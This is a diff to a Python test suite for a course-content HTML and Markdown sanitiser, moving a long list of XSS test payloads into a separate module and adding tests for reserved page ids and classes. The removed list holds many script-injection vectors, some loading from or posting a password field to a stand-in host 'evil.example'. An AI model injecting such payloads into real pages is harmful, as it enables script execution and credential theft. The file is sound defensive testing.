@@ -11,8 +11,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from courses import read_course, render_notebook, render_text
-from courses.sanitize import is_safe_target, sanitize
+from courses.sanitize import RESERVED_CLASSES, RESERVED_IDS, is_safe_target, sanitize
 from tests.courses.harmless import danger_in
+from tests.courses.payloads import MEDIA_TYPES, PAYLOADS
 from tests.courses.small_course import (
     FILES,
     SVG,
@@ -23,82 +24,7 @@ from tests.courses.small_course import (
     notebook,
 )
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    '<img src="x` `<script>alert(1)</script>"` `>',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
-    "<math href='javascript:alert(1)'><mi>x</mi></math>",
-    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<div style='background:url(javascript:alert(1))'>x</div>",
-    "<div style='position:fixed;inset:0'>x</div>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<a href='javascript&colon;alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href=x ping=https://evil.example target=_blank>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](javascript&#58;alert(1))",
-    "[x](<java\nscript:alert(1)>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    '![x"onerror="alert(1)](x.png)',
-    '![x](x.png "t\\" onerror=alert(1) \\"")',
-    "[r]: javascript:alert(1)\n\n[x][r]",
-    "text {: onclick=alert(1) style=color:red }",
-    "# title {: onmouseover=alert(1) }",
-    '```python title="<img src=x onerror=alert(1)>"\nx\n```',
-    '```{.python onclick="alert(1)"}\nx\n```',
-    "```html\n<script>alert(1)</script>\n```",
-    "`<script>alert(1)</script>`",
-    "$\\text{<img src=x onerror=alert(1)>}$",
-    "$\\href{javascript:alert(1)}{x}$",
-    "$$<script>alert(1)</script>$$",
-    "$\\unknown<img src=x onerror=alert(1)>$",
-    "> [!NOTE|x\" onclick=\"alert(1)]\n> text",
-    '!!! note "<img src=x onerror=alert(1)>"\n    text',
-    '??? question "<script>alert(1)</script>"\n    text',
-    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "[^<script>]: x\n\ny[^<script>]",
-    "term\n:   <script>alert(1)</script>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<input autofocus onfocus=alert(1)>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<form action=https://evil.example><input name=password></form>",
-    "<p title='<table onmouseover=alert(1)>'>x</p>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version=1?><script>alert(1)</script>",
-    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
-    "\x02klzzwxh:0000\x03<img src=x onerror=alert(1)>",
-    "<div markdown='1' onclick=alert(1)>\n<script>alert(1)</script>\n</div>",
-    "*[X]: \"><img src=x onerror=alert(1)>\n\nX",
-]  # fmt: skip
+ROOT = Path(__file__).resolve().parents[2]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -113,12 +39,7 @@ def test_a_payload_in_a_notebook_leaves_nothing_that_runs(payload: str) -> None:
         markdown_cell(payload),
         code_cell(
             payload,
-            display(text__html=payload),
-            display(text__plain=payload),
-            display(text__markdown=payload),
-            display(text__latex=payload),
-            display(**{"image/svg+xml": payload}),
-            display(**{"application/javascript": payload}),
+            *[display(**{kind: payload}) for kind in MEDIA_TYPES],
             {"output_type": "stream", "name": payload, "text": [payload]},
             {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
         ),
@@ -197,3 +118,32 @@ def test_sanitising_twice_changes_nothing_more(text: str) -> None:
 )
 def test_only_relative_http_and_mail_targets_are_safe(target: str, is_safe: bool) -> None:
     assert is_safe_target(target) is is_safe
+
+
+def test_a_lesson_cannot_take_the_names_of_the_page_around_it() -> None:
+    html = sanitize('<p id="toasts" class="flash tip">x</p><p id="mine" class="flash">y</p>')
+
+    assert html == '<p class="tip">x</p><p id="mine" class="">y</p>'
+    assert 'id="main-1"' in render_text("# main")
+
+
+def test_every_name_the_page_uses_is_reserved() -> None:
+    web = ROOT / "lms" / "web"
+    pages = (
+        web / "templates" / "web" / "base.html",
+        *(ROOT / "lms/lessons/templates").rglob("*.html"),
+    )
+    ids = {name for page in pages for name in re.findall(r'\bid="([\w-]+)"', page.read_text())}
+    script = (web / "static" / "baeum.js").read_text()
+    classes = set(re.findall(r'querySelector(?:All)?\("\.([\w-]+)[":]', script))
+
+    assert ids <= RESERVED_IDS
+    assert classes - {"highlight"} <= RESERVED_CLASSES
+
+
+def test_a_picture_without_a_source_leaves_its_words() -> None:
+    html = sanitize('<img src="x" alt="a &quot;>b"><img alt="lone">', lambda _tag, _target: None)
+
+    assert (
+        html == '<span class="no-picture">a &quot;&gt;b</span><span class="no-picture">lone</span>'
+    )
